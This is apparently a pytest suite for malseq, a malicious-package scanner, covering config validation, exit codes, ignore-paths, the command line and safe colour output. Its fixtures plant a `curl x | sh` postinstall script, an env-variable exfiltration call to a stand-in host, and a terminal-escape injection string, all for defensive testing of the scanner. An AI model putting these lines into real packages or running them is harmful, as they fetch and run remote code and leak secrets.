"""Policy: config discovery and strict validation, flags over the file, exit codes, ignore-paths, colour."""

from __future__ import annotations

import argparse
import json
import os
import re
from pathlib import Path

import pytest

from malseq import _cli
from malseq._cli_policy import apply_policy
from malseq.errors import ConfigError, UsageError
from malseq.intake.package import Ecosystem, PackageOrigin, SkippedMember
from malseq.policy import (
    DEFAULT_FAIL_ON,
    IGNORED_REASON,
    FailOn,
    Policy,
    diff_exit_code,
    exit_code,
    find_config,
    load_policy,
)
from malseq.project import ScanNotice
from malseq.report.text import render_text
from malseq.scan import PackageInfo, ScanError, ScanOptions, TargetResult, scan

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
CLEAN_LIB = str(EXAMPLES / "pypi-clean-lib")  # golden score 0.016, benign
EXFIL = str(EXAMPLES / "npm-env-exfil")  # golden score 0.995, malicious


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


# ---------------------------------------------------------------------------
# Finding and reading the config


def test_config_is_found_upwards_and_malseq_toml_wins(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    write(tmp_path / "pyproject.toml", '[tool.malseq]\noperating-point = "balanced"\n')
    deep = tmp_path / "a" / "b"
    deep.mkdir(parents=True)
    write(tmp_path / "a" / "pyproject.toml", "[project]\nname = 'x'\n")  # no [tool.malseq]: looked past
    assert load_policy(deep).operating_point == "balanced"
    assert load_policy(deep).source == tmp_path / "pyproject.toml"
    write(tmp_path / "malseq.toml", 'operating-point = "low-fpr"\n')
    policy = load_policy(deep)
    assert (policy.operating_point, policy.source) == ("low-fpr", tmp_path / "malseq.toml")


def test_search_stops_at_the_repository_root(tmp_path: Path) -> None:
    write(tmp_path / "malseq.toml", 'fail-on = ["errors"]\n')  # outside the checkout: never read
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    assert find_config(repo) is None
    assert load_policy(repo) == Policy()
    (repo / ".git").rmdir()
    (repo / ".git").write_text("gitdir: /elsewhere\n")  # a worktree's .git is a file
    assert find_config(repo) is None


def test_explicit_config_file(tmp_path: Path) -> None:
    other = write(tmp_path / "ci" / "policy.toml", 'fail-on = ["malicious", "errors", "not-scanned"]\n'
                  'suppressions = "reviewed.toml"\ntimeout = 30\noffline = true\nignore-paths = ["tests/**"]\n')
    policy = load_policy(tmp_path, other)
    assert policy.failing_on == {FailOn.MALICIOUS, FailOn.ERRORS, FailOn.NOT_SCANNED}
    assert policy.suppressions == tmp_path / "ci" / "reviewed.toml"  # relative to the config file
    assert (policy.timeout, policy.offline, policy.ignore_paths) == (30.0, True, ("tests/**",))
    pyproject = write(tmp_path / "pyproject.toml", "[project]\nname = 'x'\n")
    with pytest.raises(ConfigError, match=r"no \[tool.malseq\] table"):
        load_policy(tmp_path, pyproject)
    with pytest.raises(ConfigError, match="does not exist"):
        load_policy(tmp_path, tmp_path / "missing.toml")


@pytest.mark.parametrize(("body", "message"), [
    ("operating-points = 'balanced'", "unknown key 'operating-points'"),
    ("pypi-index-url = 'https://mirror.example/simple'", "pip's and npm's configuration"),
    ("operating-point = 'strictest'", "operating-point must be one of low-fpr, balanced"),
    ("fail-on = 'malicious'", "fail-on must be a list"),
    ("fail-on = ['malicious', 'warnings']", "unknown fail-on value 'warnings'"),
    ("suspicious-score = 1.5", "suspicious-score must be a number from 0 to 1"),
    ("suspicious-score = true", "suspicious-score must be a number"),
    ("timeout = 0", "timeout must be a positive number"),
    ("timeout = '60'", "timeout must be a positive number"),
    ("offline = 'yes'", "offline must be true or false"),
    ("suppressions = 3", "suppressions must be a path"),
    ("ignore-paths = 'tests/**'", "ignore-paths must be a list"),
    ("ignore-paths = ['']", "ignore-paths must be a list"),
    ("[nested]\nkey = 1", "unknown key 'nested'"),
])
def test_strict_validation_names_the_key_and_the_file(tmp_path: Path, body: str, message: str) -> None:
    config = write(tmp_path / "malseq.toml", body + "\n")
    with pytest.raises(ConfigError) as info:
        load_policy(tmp_path)
    assert message in str(info.value)
    assert str(config) in str(info.value)
    assert isinstance(info.value, UsageError)  # exit code 2


def test_tool_malseq_must_be_a_table_and_toml_must_parse(tmp_path: Path) -> None:
    write(tmp_path / "pyproject.toml", "[tool]\nmalseq = 3\n")
    with pytest.raises(ConfigError, match="tool.malseq must be a table"):
        load_policy(tmp_path)
    write(tmp_path / "malseq.toml", "fail-on = [\n")
    with pytest.raises(ConfigError, match="not valid TOML"):
        load_policy(tmp_path)


def test_flags_override_the_file_and_suspicious_needs_a_score(tmp_path: Path) -> None:
    base = load_policy(tmp_path, write(tmp_path / "malseq.toml", 'operating-point = "balanced"\ntimeout = 5\n'
                                       'fail-on = ["suspicious"]\nsuspicious-score = 0.4\n'))
    merged = base.merge(Policy(timeout=9.0, fail_on=frozenset({FailOn.MALICIOUS})))
    assert (merged.operating_point, merged.timeout, merged.fail_on) == ("balanced", 9.0, {FailOn.MALICIOUS})
    assert merged.suspicious_score == 0.4 and merged.source == base.source
    assert Policy().failing_on == DEFAULT_FAIL_ON == {FailOn.MALICIOUS, FailOn.ERRORS}
    with pytest.raises(UsageError, match="no suspicious-score"):
        Policy(fail_on=frozenset({FailOn.SUSPICIOUS})).check()


# ---------------------------------------------------------------------------
# Exit codes: one function, every fail-on item


def result(verdict: str | None = None, score: float | None = None, error: bool = False, notice: bool = False,
           unscored: bool = False, suppressed: bool = False) -> TargetResult:
    info = PackageInfo(Ecosystem.NPM, "p", "1.0.0", PackageOrigin("folder", "/p", None, None), 1, 10, (), (), (),
                       (), False, ())
    return TargetResult(
        target="t", package=None if error else info, analysis=None,
        error=ScanError("CorruptArchiveError", "truncated", None) if error else None, seconds=0.0,
        score=score, verdict=verdict, suppressed="reviewed" if suppressed else None,
        unscored="no model" if unscored else None,
        notices=(ScanNotice("node_modules", "not scanned", "scan them"),) if notice else (),
    )


def fail_on(*items: FailOn, score: float | None = None) -> Policy:
    return Policy(fail_on=frozenset(items), suspicious_score=score)


def test_exit_code_default_policy() -> None:
    default = Policy()
    assert exit_code([result("benign", 0.1)], default) == 0
    assert exit_code([result("malicious", 0.99)], default) == 1
    assert exit_code([result("malicious", 0.99, suppressed=True)], default) == 0
    for unjudged in (result(error=True), result(notice=True, verdict="benign", score=0.1), result(unscored=True)):
        assert exit_code([result("benign", 0.1), unjudged], default) == 3
    assert exit_code([result("malicious", 0.99), result(error=True)], default) == 1  # 1 over 3
    assert exit_code([result("benign", 0.1)], default, not_scanned=2) == 0  # only strict fails on those


def test_exit_code_follows_fail_on() -> None:
    only_malicious = fail_on(FailOn.MALICIOUS)
    assert exit_code([result(error=True), result(unscored=True)], only_malicious) == 0
    suspicious = fail_on(FailOn.SUSPICIOUS, score=0.5)
    assert exit_code([result("benign", 0.5)], suspicious) == 1  # at the threshold, below the verdict's
    assert exit_code([result("benign", 0.49)], suspicious) == 0
    assert exit_code([result("benign", 0.7, suppressed=True)], suspicious) == 0
    assert exit_code([result("benign", 0.7)], only_malicious) == 0
    strict = fail_on(FailOn.MALICIOUS, FailOn.NOT_SCANNED)
    assert exit_code([result("benign", 0.1)], strict, not_scanned=1) == 3
    assert exit_code([result("benign", 0.1)], strict, not_scanned=0) == 0
    assert exit_code([result("malicious", 0.99), result(error=True)], fail_on()) == 0  # fail-on = []


def test_a_run_failed_only_by_suspicious_says_which_target_and_why() -> None:
    from malseq.policy import suspicious_reasons

    suspicious = fail_on(FailOn.MALICIOUS, FailOn.SUSPICIOUS, score=0.5)
    results = [result("benign", 0.62), result("malicious", 0.99), result("benign", 0.1),
               result("benign", 0.8, suppressed=True)]
    assert suspicious_reasons(results, suspicious) == ["t: score 0.6200 >= suspicious-score 0.5 (fail-on suspicious)"]
    assert suspicious_reasons(results, fail_on(FailOn.MALICIOUS)) == []


def test_diff_exit_code_follows_fail_on() -> None:
    from malseq.diff.types import BehaviourDelta, DiffError, PackageDiff, Side
    from malseq.features.types import BehaviourEvent
    from malseq.sequence.types import Stage

    event = BehaviourEvent("upload_data", "index.js", 3, 0, "<module>", "fetch(u)")
    decisive = (BehaviourDelta(event, "data transmission", Stage.INSTALL, 1, "postinstall"),)
    old = result("benign", 0.1)
    flagged = PackageDiff(old, result("malicious", 0.99), None, decisive=decisive, malicious=True)
    assert diff_exit_code(flagged, Policy()) == 1
    assert diff_exit_code(flagged, fail_on(FailOn.ERRORS)) == 0
    risen = PackageDiff(old, result("benign", 0.6), None, decisive=decisive)
    assert diff_exit_code(risen, Policy()) == 0
    assert diff_exit_code(risen, fail_on(FailOn.SUSPICIOUS, score=0.5)) == 1
    quiet_change = PackageDiff(old, result("benign", 0.6), None)  # high score, but nothing decisive added
    assert diff_exit_code(quiet_change, fail_on(FailOn.SUSPICIOUS, score=0.5)) == 0
    broken = PackageDiff(old, result(error=True), DiffError(Side.NEW, ScanError("CorruptArchiveError", "x", None)))
    assert diff_exit_code(broken, Policy()) == 3
    assert diff_exit_code(broken, fail_on(FailOn.MALICIOUS)) == 0


# ---------------------------------------------------------------------------
# ignore-paths


def test_ignore_paths_are_skipped_and_listed_never_silently(tmp_path: Path) -> None:
    pkg = tmp_path / "pkg"
    write(pkg / "package.json", '{"name": "p", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}')
    write(pkg / "setup.js", "require('child_process').exec('curl x | sh');\n")
    write(pkg / "index.js", "module.exports = 1;\n")
    write(pkg / "tests" / "fixtures" / "evil.js", "require('https').get('https://x.example/' + process.env.T);\n")
    patterns = ("tests/fixtures/**", "package.json", "*.json")
    [plain] = scan([str(pkg)], ScanOptions(score=False))
    [ignored] = scan([str(pkg)], ScanOptions(score=False, ignore_paths=patterns))
    assert ignored.analysis is not None and plain.analysis is not None
    plain_files = {e.file for e in plain.analysis.all_events()}
    ignored_files = {e.file for e in ignored.analysis.all_events()}
    assert "tests/fixtures/evil.js" in plain_files and "tests/fixtures/evil.js" not in ignored_files
    assert ignored.package is not None
    skipped = {(s.path, s.reason) for s in ignored.package.skipped}
    assert skipped == {("tests/fixtures/evil.js", IGNORED_REASON)}  # the manifest is never ignored
    assert ignored.package.install_scripts == (("postinstall", "node setup.js"),)
    assert f"tests/fixtures/evil.js: {IGNORED_REASON}" in render_text([ignored])


def test_ignore_paths_leave_archives_whole_and_an_emptied_folder_is_an_error(tmp_path: Path) -> None:
    pkg = tmp_path / "pkg"
    write(pkg / "lib.py", "import os\n")
    [emptied] = scan([str(pkg)], ScanOptions(score=False, ignore_paths=("*.py",)))
    assert emptied.error is not None and emptied.error.kind == "NothingToScanError"
    import tarfile

    archive = tmp_path / "pkg.tar.gz"
    with tarfile.open(archive, "w:gz") as tf:
        tf.add(pkg / "lib.py", "pkg-1.0/lib.py")
    [whole] = scan([str(archive)], ScanOptions(score=False, ignore_paths=("*.py",)))
    assert whole.error is None and whole.package is not None and whole.package.skipped == ()


# ---------------------------------------------------------------------------
# The command line


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = _cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A checkout to run malseq in: its own repository root, no MALSEQ_SUPPRESSIONS."""
    (tmp_path / ".git").mkdir()
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("MALSEQ_SUPPRESSIONS", raising=False)
    return tmp_path


def test_cli_bad_config_is_a_usage_error(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write(project / "pyproject.toml", "[tool.malseq]\nfail_on = ['errors']\n")
    code, out, err = run(capsys, "scan", "--no-isolate", CLEAN_LIB)
    assert code == 2 and out == ""
    assert "unknown key 'fail_on'" in err and str(project / "pyproject.toml") in err
    code, _, _ = run(capsys, "scan", "--no-isolate", "--no-config", "-q", CLEAN_LIB)
    assert code == 0
    code, _, err = run(capsys, "scan", "--no-config", "--config", "x.toml", CLEAN_LIB)
    assert code == 2 and "contradict" in err


def test_cli_fail_on_from_config_and_flag(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    broken = write(project / "broken.tgz", "not an archive")
    code, _, _ = run(capsys, "scan", "--no-isolate", "-q", str(broken))
    assert code == 3  # default: errors fail
    write(project / "malseq.toml", 'fail-on = ["malicious"]\n')
    code, out, err = run(capsys, "scan", "--no-isolate", str(broken))
    assert code == 0 and "ERROR" in out
    assert f"using config {project / 'malseq.toml'}" in err and "fail-on leaves out errors" in err
    code, _, _ = run(capsys, "scan", "--no-isolate", "-q", "--fail-on", "malicious,errors", str(broken))
    assert code == 3  # the flag overrides the file
    code, _, err = run(capsys, "scan", "--fail-on", "malicious,warnings", str(broken))
    assert code == 2 and "unknown fail-on value 'warnings'" in err
    code, _, err = run(capsys, "scan", "--fail-on", "", str(broken))
    assert code == 2 and "--fail-on none" in err


def test_cli_suspicious_score_fails_a_benign_verdict(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "scan", "--no-isolate", "-q", "--fail-on", "suspicious", "--suspicious-score", "0.001",
                       CLEAN_LIB)
    assert "verdict: BENIGN" in out and code == 1
    code, _, _ = run(capsys, "scan", "--no-isolate", "-q", "--fail-on", "suspicious", "--suspicious-score", "0.5",
                     CLEAN_LIB)
    assert code == 0
    code, _, err = run(capsys, "scan", "--no-isolate", "-q", "--fail-on", "suspicious", CLEAN_LIB)
    assert code == 2 and "suspicious-score" in err
    code, _, _ = run(capsys, "scan", "--no-isolate", "-q", "--fail-on", "none", EXFIL)
    assert code == 0


def test_cli_suspicious_score_without_fail_on_suspicious_says_it_changes_nothing(
        project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # 0.001 is below the clean library's score (0.005 with the shipped model): with suspicious in
    # fail-on the run would fail
    code, _, err = run(capsys, "scan", "--no-isolate", "-q", "--suspicious-score", "0.001", CLEAN_LIB)
    assert code == 0
    assert ("malseq: note: --suspicious-score has no effect: fail-on is malicious,errors, without suspicious "
            "(add it: --fail-on malicious,errors,suspicious)") in err
    code, _, err = run(capsys, "scan", "--no-isolate", "-q", "--fail-on", "none", "--suspicious-score", "0.001",
                       CLEAN_LIB)
    assert code == 0 and "fail-on is none, without suspicious (add it: --fail-on suspicious)" in err
    code, _, err = run(capsys, "scan", "--no-isolate", "-q", "--fail-on", "suspicious", "--suspicious-score", "0.001",
                       CLEAN_LIB)
    assert code == 1 and "no effect" not in err
    # a config's suspicious-score alone is not a mistake: a --fail-on of one run may use it
    write(project / "malseq.toml", "suspicious-score = 0.01\n")
    code, _, err = run(capsys, "scan", "--no-isolate", "-q", CLEAN_LIB)
    assert code == 0 and "no effect" not in err


def test_cli_strict_fails_on_lockfile_entries_not_scanned(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    requirements = write(project / "requirements.txt", "git+https://example.invalid/x.git#egg=x\n")
    argv = ["scan", "--no-isolate", "-q", CLEAN_LIB, "--lockfile", str(requirements)]
    code, _, _ = run(capsys, *argv)
    assert code == 0  # listed on stderr, but not a failure by default
    code, _, err = run(capsys, *argv, "--strict")
    assert code == 3 and "1 lockfile entry not scanned" in err
    write(project / "malseq.toml", 'fail-on = ["malicious", "not-scanned"]\n')
    code, _, _ = run(capsys, *argv)
    assert code == 3


def test_cli_diff_follows_fail_on(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old = project / "old"
    write(old / "package.json", '{"name": "colorz-utils", "version": "1.0.2", "main": "index.js"}')
    write(old / "index.js", "module.exports = (s) => s;\n")
    argv = ["diff", "--no-isolate", "-q", str(old), EXFIL]
    code, out, _ = run(capsys, *argv)
    assert code == 1 and out  # the added postinstall stealer
    code, _, _ = run(capsys, *argv, "--fail-on", "errors")
    assert code == 0
    write(project / "malseq.toml", 'fail-on = ["errors"]\n')
    code, _, _ = run(capsys, *argv)
    assert code == 0
    code, _, _ = run(capsys, *argv, "--fail-on", "suspicious", "--suspicious-score", "0.9")
    assert code == 1


def test_cli_config_settings_reach_the_scan(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pkg = project / "pkg"
    write(pkg / "setup.py", "from setuptools import setup\nsetup(name='p', version='1')\n")
    write(pkg / "tests" / "fixtures" / "bad.py", "import os\nos.system('x')\n")
    write(project / "malseq.toml", 'ignore-paths = ["tests/fixtures/**"]\noperating-point = "balanced"\n'
          "timeout = 5\noffline = true\n")
    parser = _cli._build_parser({})
    options = _cli._scan_options(_applied(parser.parse_args(["scan", str(pkg)])))
    assert (options.operating_point, options.intake.limits.time_budget_seconds) == ("balanced", 5.0)
    assert options.intake.offline and options.ignore_paths == ("tests/fixtures/**",)
    flags = ["scan", "--operating-point", "low-fpr", "--timeout", "7", str(pkg)]
    options = _cli._scan_options(_applied(parser.parse_args(flags)))
    assert (options.operating_point, options.intake.limits.time_budget_seconds) == ("low-fpr", 7.0)
    code, out, _ = run(capsys, "scan", "--no-isolate", "-q", "--format", "json", str(pkg))
    [entry] = json.loads(out)
    assert entry["package"]["skipped"] == [{"path": "tests/fixtures/bad.py", "reason": IGNORED_REASON}]
    write(project / "malseq.toml", 'suppressions = "reviewed/missing.toml"\n')
    code, _, err = run(capsys, "scan", "--no-isolate", "-q", str(pkg))
    assert code == 2 and str(project / "reviewed" / "missing.toml") in err  # relative to the config's folder


def _applied(args: argparse.Namespace) -> argparse.Namespace:
    apply_policy(args)
    return args


# ---------------------------------------------------------------------------
# Colour

SGR = re.compile(r"\x1b\[[0-9;]*m")


def test_colour_never_lets_package_strings_inject_escapes() -> None:
    hostile = "\x1b[0m\x1b[32mBENIGN\x1b]8;;https://x.example\x07\u202e"
    info = PackageInfo(Ecosystem.NPM, hostile, hostile, PackageOrigin("folder", "/p", None, None), file_count=1,
                       total_bytes=10, languages=(), binaries=(hostile,), skipped=(SkippedMember(hostile, hostile),),
                       install_scripts=((hostile, hostile),), has_setup_py=False, pth_files=())
    results = [
        TargetResult(hostile, info, None, None, 0.0, score=0.99, verdict="malicious", suppressed=hostile),
        TargetResult(hostile, None, None, ScanError(hostile, hostile, hostile), 0.0,
                     notices=(ScanNotice("lockfile", hostile, hostile),)),
        TargetResult(hostile, info, None, None, 0.0, unscored=hostile),
    ]
    coloured = render_text(results, color=True)
    plain = render_text(results, color=False)
    assert "\x1b" not in plain
    assert SGR.sub("", coloured) == plain  # colour adds escapes around our words and nothing else
    ours = SGR.findall(coloured)
    assert set(ours) == {"\x1b[1;31m", "\x1b[0m", "\x1b[1;33m"}
    # every escape sits right around a verdict word malseq wrote
    assert re.sub(r"\x1b\[[0-9;]*m(MALICIOUS|BENIGN|NONE|ERROR|NOT SCANNED COMPLETELY)\x1b\[0m", "", coloured).count(
        "\x1b") == 0


def test_colour_choice_follows_tty_and_no_color(monkeypatch: pytest.MonkeyPatch) -> None:
    main_fd, tty_fd = os.openpty()
    try:
        with os.fdopen(tty_fd, "w", closefd=False) as tty, open(os.devnull, "w") as null:
            monkeypatch.delenv("NO_COLOR", raising=False)
            assert _cli.use_color("auto", tty) and not _cli.use_color("auto", null)
            monkeypatch.setenv("NO_COLOR", "")  # present but empty: no effect (no-color.org)
            assert _cli.use_color("auto", tty)
            monkeypatch.setenv("NO_COLOR", "1")
            assert not _cli.use_color("auto", tty)
            assert _cli.use_color("always", null) and not _cli.use_color("never", tty)
    finally:
        os.close(main_fd)
        os.close(tty_fd)


def test_cli_color_flag(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    code, out, _ = run(capsys, "scan", "--no-isolate", "-q", "--no-config", "--color", "always", EXFIL)
    assert code == 1 and "\x1b[1;31mMALICIOUS\x1b[0m" in out
    code, out, _ = run(capsys, "scan", "--no-isolate", "-q", "--no-config", EXFIL)  # auto, not a tty
    assert code == 1 and "\x1b" not in out and "verdict: MALICIOUS" in out
